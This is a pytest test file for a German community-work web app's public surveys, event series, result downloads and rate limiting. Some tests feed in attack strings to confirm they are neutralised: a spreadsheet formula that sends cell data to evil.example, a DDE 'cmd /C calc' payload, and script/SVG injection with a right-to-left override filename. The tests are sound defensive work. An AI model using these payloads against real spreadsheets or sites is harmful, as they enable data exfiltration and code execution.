    for url in (f"/gebiet/{area.slug}/veranstaltungen/{event.pk}/", f"/gebiet/{area.slug}/veranstaltungen/"):
        visit(page, url)
        assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"], url
    visit(page, f"/gebiet/{area.slug}/veranstaltungen/reihen/neu/")
    page.locator("#id_title").focus()
    page.keyboard.type("Offene Sprechstunde")
    page.locator("#id_first_day").fill((today + datetime.timedelta(days=10)).isoformat())
    page.locator("#id_last_day").fill(today.isoformat())
    page.locator("#id_start_time").fill("10:00")
    page.locator("#id_end_time").fill("12:00")
    page.locator("#id_place").focus()
    page.keyboard.type("Laden Uferstraße 3")
    with navigates(page):
        page.keyboard.press("Enter")
    expect(page.get_by_text("Der letzte Tag kann nicht vor dem ersten Tag liegen.").first).to_be_visible()
    expect(page.locator("#id_title")).to_have_value("Offene Sprechstunde")
    expect(page.locator("#id_place")).to_have_value("Laden Uferstraße 3")
    assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"]
    assert not Series.objects.exists()


# --- (8) surveys: the public answer page ---------------------------------------------------------------------------


def _survey_url(survey: object, suffix: str = "") -> str:
    return f"/oeffentlich/{survey.area.slug}/umfragen/{survey.key}/{suffix}"  # type: ignore[attr-defined]


@pytest.mark.parametrize("typed", ["\x00", " \x00 ", "\x00\x00\n"])
def test_a_text_of_nul_bytes_only_is_no_answer_not_a_server_error(client: Client, area: Quartier, typed: str) -> None:
    from activation.models import Answer, Response
    from activation.survey_builder import question_add, survey_open
    from activation.survey_services import submit_response
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    survey = survey_of_every_kind(area)
    q = by_kind(survey)
    response = client.post(_survey_url(survey), {f"q{q['scale'].pk}": "3", f"q{q['text'].pk}": typed})
    assert response.status_code == 302  # the optional text is left unanswered, the scale is kept
    assert list(Answer.objects.values_list("question_id", "number")) == [(q["scale"].pk, 3)]
    draft = survey_of_every_kind(area, title="Pflichttext", open_it=False)
    required = question_add(
        survey=draft, data={"kind": "text", "text": "Warum?", "required": True}, choices=[], by=None
    )
    survey_open(survey=draft, by=None)
    with pytest.raises(ValidationError) as refused:
        submit_response(draft, {required.pk: typed, by_kind(draft)["scale"].pk: 3})
    assert list(refused.value.error_dict) == [f"q{required.pk}"]  # "Please answer this question."
    assert Response.objects.count() == 1


@pytest.mark.parametrize(
    ("typed", "kept"),
    [("١٢", "12"), ("１２", "12"), ("²", None), ("1e9999", None), ("NaN", None), ("sNaN", None), ("-Infinity", None),
     ("1e-999999999", None), ("1E-9999999999999999999", None), ("12" + "0" * 5000, None), ("0x10", None),
     ("1_000", None), ("  7 ", "7")],
)  # fmt: skip
def test_odd_numbers_are_refused_or_read_as_digits_never_a_server_error(
    client: Client, area: Quartier, typed: str, kept: str | None
) -> None:
    from decimal import Decimal

    from activation.models import Answer
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    survey = survey_of_every_kind(area)
    q = by_kind(survey)
    response = client.post(_survey_url(survey), {f"q{q['scale'].pk}": "3", f"q{q['number'].pk}": typed})
    if kept is None:
        assert response.status_code == 400, typed
        assert not Answer.objects.exists()
    else:
        assert response.status_code == 302, typed
        assert Answer.objects.get(question=q["number"]).number == Decimal(kept)


@pytest.mark.parametrize("typed", ["-1", "0", "6", "2.5", "١", "1e0", "[3]", ""])
def test_a_scale_value_outside_its_scale_is_refused(client: Client, area: Quartier, typed: str) -> None:
    from activation.models import Answer
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    survey = survey_of_every_kind(area)
    q = by_kind(survey)
    response = client.post(_survey_url(survey), {f"q{q['scale'].pk}": typed})
    if typed in ("١", "1e0"):
        assert response.status_code == 302 and Answer.objects.get().number == 1
    else:
        assert response.status_code == 400, typed
        assert not Answer.objects.exists()


def test_a_survey_whose_closing_day_has_passed_is_not_opened_as_if_it_took_answers(
    area: Quartier, superuser: User, today: datetime.date
) -> None:
    from activation.models import Survey
    from activation.survey_builder import survey_open, survey_update
    from tests.activation.survey_fixtures import survey_of_every_kind

    survey = survey_of_every_kind(area, open_it=False)
    survey_update(survey=survey, data={"closes_on": today - datetime.timedelta(days=1)}, by=None)
    with pytest.raises(ValidationError) as refused:
        survey_open(survey=survey, by=superuser)
    assert "closes_on" in refused.value.error_dict
    survey.refresh_from_db()
    assert survey.status == Survey.Status.DRAFT
    survey_update(survey=survey, data={"closes_on": today}, by=None)  # the closing day itself still takes answers
    survey_open(survey=survey, by=superuser)
    survey.refresh_from_db()
    assert survey.status == Survey.Status.OPEN


def test_the_closing_day_takes_answers_until_midnight_local_time(
    client: Client, area: Quartier, today: datetime.date, settings: object
) -> None:
    from unittest import mock

    from activation.models import Response
    from activation.survey_builder import survey_update
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    survey = survey_of_every_kind(area)
    closing = datetime.date(2026, 6, 30)
    survey_update(survey=survey, data={"closes_on": closing}, by=None)
    scale = by_kind(survey)["scale"]
    late = timezone.make_aware(datetime.datetime(2026, 6, 30, 23, 59))  # 21:59 UTC
    after = timezone.make_aware(datetime.datetime(2026, 7, 1, 0, 1))  # 22:01 UTC, still the 30th in UTC
    with mock.patch("django.utils.timezone.now", return_value=late):
        assert client.post(_survey_url(survey), {f"q{scale.pk}": "3"}).status_code == 302
    client.cookies.clear()
    with mock.patch("django.utils.timezone.now", return_value=after):
        response = client.post(_survey_url(survey), {f"q{scale.pk}": "3"})
        assert response.status_code == 200 and "keine Antworten mehr" in response.content.decode()
    assert Response.objects.count() == 1


def _self_evaluation_of(area: Quartier) -> tuple[object, object]:
    from activation.models import Invitation
    from activation.survey_builder import question_add, survey_create, survey_open
    from actors.models import NetworkMembership
    from demo.factories import NetworkFactory

    network = NetworkFactory(area=area, name="AG Jugend")
    organisation = OrganisationFactory(area=area, name="Jugendtreff", email="treff@example.org")
    NetworkMembership.objects.create(network=network, organisation=organisation)
    survey = survey_create(
        area=area, data={"title": "Selbstevaluation", "audience": "netzwerk", "network": network}, by=None
    )
    question_add(survey=survey, data={"kind": "text", "text": "Was lief gut?"}, choices=[], by=None)
    survey_open(survey=survey, by=None)
    return survey, Invitation.objects.get(survey=survey)


def test_keys_cross_no_border_between_areas_surveys_and_links(
    client: Client, area: Quartier, other_area: Quartier
) -> None:
    from tests.activation.survey_fixtures import survey_of_every_kind

    public = survey_of_every_kind(area)
    draft = survey_of_every_kind(area, title="Entwurf", open_it=False)
    evaluation, invitation = _self_evaluation_of(area)
    for url in (
        f"/oeffentlich/{other_area.slug}/umfragen/{public.key}/",  # another area's slug
        f"/oeffentlich/{area.slug}/umfragen/{draft.key}/",
        f"/oeffentlich/{area.slug}/umfragen/{draft.key}/danke/",
        f"/oeffentlich/{area.slug}/umfragen/{evaluation.key}/",  # a self-evaluation has no public page
        f"/oeffentlich/{area.slug}/umfragen/{invitation.key}/",  # an invitation's key is not a survey's
        f"/oeffentlich/{area.slug}/selbstevaluation/{public.key}/",  # nor a survey's key an invitation's
        f"/oeffentlich/{area.slug}/selbstevaluation/{evaluation.key}/",
        f"/oeffentlich/{other_area.slug}/selbstevaluation/{invitation.key}/",
        f"/oeffentlich/{area.slug}/umfragen/{public.key.upper()}/",
        f"/oeffentlich/{area.slug}/umfragen/%00/",
    ):
        assert client.get(url).status_code == 404, url
        assert client.post(url, {"q1": "x"}).status_code in (404, 405), url


@pytest.mark.django_db(transaction=True)
def test_two_answers_racing_through_one_invitation_leave_one(area: Quartier) -> None:
    from activation.models import Response
    from activation.survey_services import submit_response

    survey, invitation = _self_evaluation_of(area)
    question = survey.questions.get()  # type: ignore[attr-defined]
    barrier = threading.Barrier(2)
    refusals: list[str] = []
    errors: list[BaseException] = []

    def answer(text: str) -> None:
        try:
            barrier.wait()
            submit_response(survey, {question.pk: text}, invitation=invitation)  # type: ignore[arg-type]
        except ValidationError as refusal:
            refusals.append(refusal.code or "")
        except BaseException as error:  # reported below
            errors.append(error)
        finally:
            connection.close()

    threads = [threading.Thread(target=answer, args=(text,)) for text in ("erste", "zweite")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == [] and refusals == ["answered"]
    assert Response.objects.filter(invitation=invitation).count() == 1


def test_huge_posts_are_refused_plainly_and_save_nothing(client: Client, area: Quartier) -> None:
    from activation.models import Response
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    survey = survey_of_every_kind(area)
    q = by_kind(survey)
    many = {f"x{i}": "1" for i in range(10_000)} | {f"q{q['scale'].pk}": "3"}
    assert client.post(_survey_url(survey), many).status_code == 400
    big = {f"q{q['scale'].pk}": "3", f"q{q['text'].pk}": "A" * (5 * 1024 * 1024)}
    assert client.post(_survey_url(survey), big).status_code in (400, 413)
    repeated = {f"q{q['scale'].pk}": "3", f"q{q['multiple'].pk}": [str(q["multiple"].choices.first().pk)] * 900}
    assert client.post(_survey_url(survey), repeated).status_code == 302  # one choice, taken once
    assert Response.objects.count() == 1 and Response.objects.get().answers.count() == 2


def test_a_forged_forwarded_for_does_not_escape_the_limit_nor_does_a_new_ipv6_address(
    client: Client, area: Quartier, settings: object
) -> None:
    from django.core.cache import cache

    from activation.models import Response
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    cache.clear()
    settings.SURVEY_RATE_LIMIT = 2  # type: ignore[attr-defined]
    settings.BEHIND_PROXY = False  # type: ignore[attr-defined]
    survey = survey_of_every_kind(area)
    data = {f"q{by_kind(survey)['scale'].pk}": "3"}
    statuses = []
    for i in range(4):
        client.cookies.clear()
        statuses.append(
            client.post(
                _survey_url(survey), data, HTTP_X_FORWARDED_FOR=f"10.0.0.{i}", REMOTE_ADDR="2001:db8::1"
            ).status_code
        )
    client.cookies.clear()
    statuses.append(client.post(_survey_url(survey), data, REMOTE_ADDR="2001:db8::ffff:1").status_code)
    assert statuses == [302, 302, 429, 429, 429]
    assert Response.objects.count() == 2
    cache.clear()


def test_an_open_survey_keeps_a_question_to_answer(client: Client, area: Quartier, role_users: dict[str, User]) -> None:
    from activation.models import Question
    from activation.survey_builder import question_add, question_delete, survey_create, survey_open

    survey = survey_create(area=area, data={"title": "Kurz", "audience": "oeffentlich"}, by=None)
    first = question_add(survey=survey, data={"kind": "text", "text": "Was fehlt?"}, choices=[], by=None)
    second = question_add(survey=survey, data={"kind": "text", "text": "Was noch?"}, choices=[], by=None)
    survey_open(survey=survey, by=None)
    question_delete(question=first, by=None)  # another stays: allowed
    client.force_login(role_users["gwa"])
    response = client.post(f"/gebiet/{area.slug}/umfragen/{survey.pk}/fragen/{second.pk}/loeschen/", follow=True)
    assert "mindestens eine Frage" in response.content.decode()
    assert list(Question.objects.filter(survey=survey)) == [second]
    with pytest.raises(ValidationError):
        question_delete(question=second, by=None)


@pytest.mark.parametrize(
    ("language", "typed", "kept"),
    [("de", "1.200", "1200"), ("de", "1.200,50", "1200.50"), ("de", "12,5", "12.5"), ("de", "12.5", "12.5"),
     ("tr", "2.500", "2500"), ("ar", "١٬٢٠٠", "1200"), ("ar", "١٢٫٥", "12.5"), ("en", "1,200", "1200"),
     ("en", "1,200.5", "1200.5"), ("en", "12.5", "12.5"), ("en", "12,5", "12.5"), ("de", "1 200", "1200"),
     ("de", "1.20.0", None), ("de", "1.200.5", None), ("en", "1,20,0", None)],
)  # fmt: skip
def test_a_number_with_thousands_separators_is_read_as_the_pages_language_writes_it(
    area: Quartier, language: str, typed: str, kept: str | None
) -> None:
    """ "1.200" is twelve hundred in German (and Turkish), "1,200" in English: neither is 1.2, as was kept."""
    from decimal import Decimal

    from activation.models import Answer, Question
    from activation.survey_builder import question_add, survey_create, survey_open
    from activation.survey_services import submit_response

    survey = survey_create(area=area, data={"title": "Miete", "audience": "oeffentlich"}, by=None)
    question = question_add(survey=survey, data={"kind": "number", "text": "Wie viel?"}, choices=[], by=None)
    survey_open(survey=survey, by=None)
    if kept is None:
        with pytest.raises(ValidationError):
            submit_response(survey, {question.pk: typed}, language=language)
        assert not Answer.objects.exists()
    else:
        submit_response(survey, {question.pk: typed}, language=language)
        assert Answer.objects.get().number == Decimal(kept)
    assert Question.objects.count() == 1


def test_an_answer_refused_by_the_limit_keeps_what_was_typed_to_send_again(
    client: Client, area: Quartier, settings: object
) -> None:
    """On a shared connection (a festival's Wi-Fi, a carrier's shared address) the limit is met by people who
    did nothing wrong: their answers, typed on a phone, stay in the form instead of being thrown away."""
    from django.core.cache import cache

    from activation.models import Response
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    cache.clear()
    settings.SURVEY_RATE_LIMIT = 0  # type: ignore[attr-defined]
    survey = survey_of_every_kind(area)
    q = by_kind(survey)
    ja = q["single"].choices.get(label="ja")
    data = {f"q{q['scale'].pk}": "4", f"q{q['text'].pk}": "Mehr Bänke am Kanal", f"q{q['single'].pk}": str(ja.pk)}
    response = client.post(_survey_url(survey), data)
    html = response.content.decode()
    assert response.status_code == 429 and response["Retry-After"] == "3600"
    assert "Ihre Antworten wurden nicht gespeichert." in html
    assert "Mehr Bänke am Kanal</textarea>" in html
    assert f'value="{ja.pk}"' in html and "checked" in html
    assert not Response.objects.exists() and "Set-Cookie" not in response.headers
    cache.clear()


@pytest.mark.browser
def test_on_a_phone_in_arabic_the_limit_says_why_and_keeps_what_was_typed(
    phone_page, visit, navigates, live_server, area: Quartier, settings: object
) -> None:
    from django.core.cache import cache

    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind
    from tests.browser.test_languages import fits_the_phone, said

    cache.clear()
    settings.SURVEY_RATE_LIMIT = 0  # type: ignore[attr-defined]
    page = phone_page
    survey = survey_of_every_kind(area)
    q = by_kind(survey)
    page.context.add_cookies([{"name": "quartier_language", "value": "ar", "url": live_server.url}])
    visit(page, _survey_url(survey))
    page.locator(f"#id_q{q['scale'].pk}_0").focus()
    page.keyboard.press("Space")
    page.locator(f"#id_q{q['text'].pk}").focus()
    page.keyboard.type("مقاعد أكثر")
    page.get_by_role("button", name=said("ar", "Send my answers")).focus()
    with navigates(page, status=429):
        page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text(said("ar", "Your answers have not been saved."))
    expect(page.locator(f"#id_q{q['text'].pk}")).to_have_value("مقاعد أكثر")
    expect(page.locator(f"#id_q{q['scale'].pk}_0")).to_be_checked()
    fits_the_phone(page)
    cache.clear()


# --- (9) surveys: the results, their downloads and the concern made of an answer ----------------------------------


def _results_url(survey: object, suffix: str = "") -> str:
    return f"/gebiet/{survey.area.slug}/umfragen/{survey.pk}/ergebnisse/{suffix}"  # type: ignore[attr-defined]


def _answered_survey(area: Quartier, today: datetime.date, *texts: str) -> object:
    """A public survey of every kind with one questionnaire per text (and one without a text)."""
    from activation.survey_services import submit_response
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    survey = survey_of_every_kind(area)
    q = by_kind(survey)
    for text in texts:
        submit_response(survey, {q["scale"].pk: "3", q["text"].pk: text}, language="de", today=today)
    submit_response(survey, {q["scale"].pk: "5"}, language="ar", today=today)
    return survey


@pytest.mark.parametrize(
    "query",
    ["language=xx", "language=", "date_from=2026-12-31&date_to=2026-01-01", "date_from=0001-01-01",
     "date_to=9999-12-31", "date_from=٢٠٢٦-٠١-٠١", "date_from=10000-01-01", "date_from=2026-02-30",
     "date_from=%00", "date_to=" + "9" * 500, "language=de&language=ar", "page=0", "page=-1", "page=abc",
     "page=99999999999999999999999", "page=%00", "export=csv"],
)  # fmt: skip
def test_forged_filters_answer_the_results_texts_and_downloads_never_a_server_error(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date, query: str
) -> None:
    from tests.activation.survey_fixtures import by_kind

    survey = _answered_survey(area, today, "Mehr Bänke")
    text = by_kind(survey)["text"]
    client.force_login(role_users["koordination"])
    for suffix in ("", f"fragen/{text.pk}/texte/", "zusammenfassung.csv", "antworten.xlsx", "antworten.csv"):
        response = client.get(_results_url(survey, suffix) + "?" + query)
        assert response.status_code in (200, 404), (suffix, query, response.status_code)


@pytest.mark.parametrize("fmt", ["pdf", "CSV", "Xlsx", "csv%00", "csv.", "csv/", "json", "%2e%2e", "c sv"])
def test_an_unknown_download_format_is_not_found(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date, fmt: str
) -> None:
    survey = _answered_survey(area, today, "Mehr Bänke")
    client.force_login(role_users["steuerung"])
    for name in ("zusammenfassung", "antworten"):
        assert client.get(_results_url(survey, f"{name}.{fmt}")).status_code == 404, (name, fmt)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1", "\r=1+1", "\x01=1+1"]  # fmt: skip


def test_formulas_in_free_texts_stay_text_in_both_downloads(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    survey = _answered_survey(area, today, *FORMULAS)
    client.force_login(role_users["gwa"])
    raw = client.get(_results_url(survey, "antworten.csv"))
    assert raw.status_code == 200
    rows = list(csv.reader(io.StringIO(raw.content.decode("utf-8-sig")), delimiter=";"))
    cells = [row[-1] for row in rows[1:] if row[-1]]
    assert len(cells) == len(FORMULAS)
    assert all(cell.startswith("'") for cell in cells), cells
    book = load_workbook(io.BytesIO(client.get(_results_url(survey, "antworten.xlsx")).content))
    values = [row[-1] for row in book.active.iter_rows(min_row=2, values_only=True) if row[-1]]
    assert len(values) == len(FORMULAS)
    assert all(isinstance(value, str) and value.startswith("'") for value in values), values
    assert not any(cell.data_type == "f" for row in book.active.iter_rows() for cell in row)


def test_script_and_direction_overrides_in_free_texts_stay_text_on_the_results(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    from tests.activation.survey_fixtures import by_kind

    attack = '<script>alert(1)</script><svg onload=alert(2)>"\u202egnp.exe'
    survey = _answered_survey(area, today, attack)
    client.force_login(role_users["gwa"])
    for suffix in ("", f"fragen/{by_kind(survey)['text'].pk}/texte/"):
        page = client.get(_results_url(survey, suffix)).content.decode()
        assert "<script>alert" not in page and "<svg onload" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_results_cost_the_same_queries_with_no_answer_and_with_five_thousand(
    client: Client,
    area: Quartier,
    role_users: dict[str, User],
    today: datetime.date,
    assert_constant_queries: Callable[..., int],
) -> None:
    from activation.models import Answer, Response
    from activation.survey_services import submit_response
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    client.force_login(role_users["planung"])
    for suffix in ("", "?language=ar&date_from=2020-01-01", "fragen/{text}/texte/", "fragen/{text}/texte/?page=9",
                   "zusammenfassung.csv", "antworten.xlsx"):  # fmt: skip
        survey = survey_of_every_kind(area, title=f"Umfrage {suffix}")
        q = by_kind(survey)
        choices = list(q["multiple"].choices.all())

        def grow(survey: object = survey, q: dict[str, object] = q, choices: list[object] = choices) -> None:
            responses = Response.objects.bulk_create(
                Response(
                    survey=survey,
                    submitted_on=today - datetime.timedelta(days=n % 200),
                    language=("de", "ar")[n % 2],
                )
                for n in range(5000)
            )
            Answer.objects.bulk_create(
                answer
                for n, response in enumerate(responses)
                for answer in (
                    Answer(response=response, question=q["scale"], number=1 + n % 5),
                    Answer(response=response, question=q["multiple"], choice=choices[n % 3]),
                    Answer(response=response, question=q["number"], number=n % 100),
                    Answer(response=response, question=q["text"], text=f"Idee {n}"),
                )
            )

        if "texte" in suffix:  # an empty list makes no query for its rows (the paginator's count is 0): one text
            submit_response(survey, {q["scale"].pk: "3", q["text"].pk: "Eine Idee"}, today=today)
        link = _results_url(survey, suffix.format(text=q["text"].pk))
        assert_constant_queries(lambda link=link: client.get(link), grow)


@pytest.mark.browser
def test_a_five_thousand_character_text_fits_a_phone_on_the_results_its_list_and_the_concern_form(
    phone_page, visit, browser_login, area: Quartier, today: datetime.date
) -> None:
    from activation.models import Answer
    from activation.survey_services import submit_response
    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind

    page = phone_page
    survey = survey_of_every_kind(area, title="Umfrage" + "Donaudampfschifffahrt" * 8)
    q = by_kind(survey)
    long = "Straßenbeleuchtungsreparaturauftrag" * 143  # 5,005 characters without a space
    submit_response(survey, {q["scale"].pk: "3", q["text"].pk: long[:5000]}, language="de", today=today)
    submit_response(survey, {q["scale"].pk: "4", q["text"].pk: "\u202eمرحبا " + long[:300]}, language="ar", today=today)
    given = Answer.objects.get(question=q["text"], text=long[:5000])
    browser_login(page, user_with_role(area, Role.GEMEINWESENARBEIT, username="gwa-user"))
    for url in (
        _results_url(survey),
        _results_url(survey, f"fragen/{q['text'].pk}/texte/"),
        _results_url(survey, f"antworten/{given.pk}/anliegen/"),
    ):
        visit(page, url)
        assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"], url


def test_a_concern_of_a_self_evaluations_answer_names_no_organisation_anywhere(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    from auditlog.models import LogEntry

    from activation.models import Answer
    from activation.survey_services import submit_response
    from actors.models import Concern

    survey, invitation = _self_evaluation_of(area)
    question = survey.questions.get()  # type: ignore[attr-defined]
    submit_response(survey, {question.pk: "Wir brauchen mehr Räume"}, invitation=invitation, today=today)  # type: ignore[arg-type]
    given = Answer.objects.get()
    client.force_login(role_users["gwa"])
    form = client.get(_results_url(survey, f"antworten/{given.pk}/anliegen/")).content.decode()
    assert "Jugendtreff" not in form
    response = client.post(_results_url(survey, f"antworten/{given.pk}/anliegen/"), {"text": given.text})
    concern = Concern.objects.get()
    assert response.status_code == 302
    assert concern.raised_by_organisation is None and concern.raised_by_person is None
    assert "Jugendtreff" not in client.get(response["Location"]).content.decode()
    entries = LogEntry.objects.get_for_object(concern).values_list("changes_text", "changes", "object_repr")
    assert entries and "Jugendtreff" not in str(list(entries))
    # Nor do the results or the downloads say which organisation gave which answer.
    for suffix in ("", f"fragen/{question.pk}/texte/", "antworten.csv", "zusammenfassung.csv"):
        assert "Jugendtreff" not in client.get(_results_url(survey, suffix)).content.decode(), suffix


def test_a_concern_is_refused_for_an_answer_of_another_survey_a_deleted_one_and_other_methods(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    from activation.models import Answer, Response
    from actors.models import Concern
    from tests.activation.survey_fixtures import by_kind

    survey = _answered_survey(area, today, "Laterne kaputt")
    other = _answered_survey(area, today, "Bank kaputt")
    theirs = Answer.objects.get(question=by_kind(other)["text"])
    mine = Answer.objects.get(question=by_kind(survey)["text"])
    choice_or_scale = Answer.objects.filter(response__survey=survey).exclude(pk=mine.pk).first()
    client.force_login(role_users["gwa"])
    assert client.post(_results_url(survey, f"antworten/{theirs.pk}/anliegen/"), {"text": "x"}).status_code == 404
    assert (
        client.post(_results_url(survey, f"antworten/{choice_or_scale.pk}/anliegen/"), {"text": "x"}).status_code == 404
    )
    for method in ("put", "delete", "patch"):
        assert getattr(client, method)(_results_url(survey, f"antworten/{mine.pk}/anliegen/")).status_code == 405
    # Two posts one after the other: one concern, the second leads to it.
    first = client.post(_results_url(survey, f"antworten/{mine.pk}/anliegen/"), {"text": "Laterne kaputt"})
    second = client.post(_results_url(survey, f"antworten/{mine.pk}/anliegen/"), {"text": "Noch mal"})
    assert first["Location"] == second["Location"] and Concern.objects.count() == 1
    Response.objects.filter(answers=theirs).delete()  # the questionnaire is gone
    assert client.get(_results_url(other, f"antworten/{theirs.pk}/anliegen/")).status_code == 404
    assert Concern.objects.count() == 1


def test_koordination_and_planung_read_the_texts_and_download_but_make_no_concern(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    """Koordination reads concerns with their text but no person's data; an anonymous survey's free text is read
    like a concern's text (nobody is named as its writer), so both reading roles see the texts."""
    from tests.activation.survey_fixtures import by_kind

    survey = _answered_survey(area, today, "Mehr Licht am Ufer")
    for role in ("koordination", "planung"):
        client.force_login(role_users[role])
        for suffix in ("", f"fragen/{by_kind(survey)['text'].pk}/texte/"):
            page = client.get(_results_url(survey, suffix)).content.decode()
            assert "Mehr Licht am Ufer" in page and "/anliegen/" not in page.split("<main")[1], (role, suffix)
        for suffix in ("antworten.csv", "zusammenfassung.xlsx"):
            assert client.get(_results_url(survey, suffix)).status_code == 200, (role, suffix)


def test_a_text_in_another_language_is_marked_with_it_and_its_direction(
    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
) -> None:
    """WCAG 3.1.2: an Arabic or Turkish answer on the German page is marked as such; ``dir="auto"`` keeps an
    Arabic sentence's punctuation in place and a direction override inside its own paragraph."""
    from activation.models import Answer
    from activation.survey_services import submit_response
    from tests.activation.survey_fixtures import by_kind

    survey = _answered_survey(area, today)
    q = by_kind(survey)
    submit_response(survey, {q["scale"].pk: "2", q["text"].pk: "مزيد من الأشجار؟"}, language="ar", today=today)
    submit_response(survey, {q["scale"].pk: "2", q["text"].pk: "Ohne Sprache"}, today=today)  # typed in on paper
    client.force_login(role_users["gwa"])
    arabic = Answer.objects.get(text="مزيد من الأشجار؟")
    for suffix in ("", f"fragen/{q['text'].pk}/texte/", f"antworten/{arabic.pk}/anliegen/"):
        page = client.get(_results_url(survey, suffix)).content.decode()
        assert 'dir="auto" lang="ar">مزيد من الأشجار؟<' in page, suffix
        if "anliegen" not in suffix:
            assert 'dir="auto">Ohne Sprache<' in page, suffix
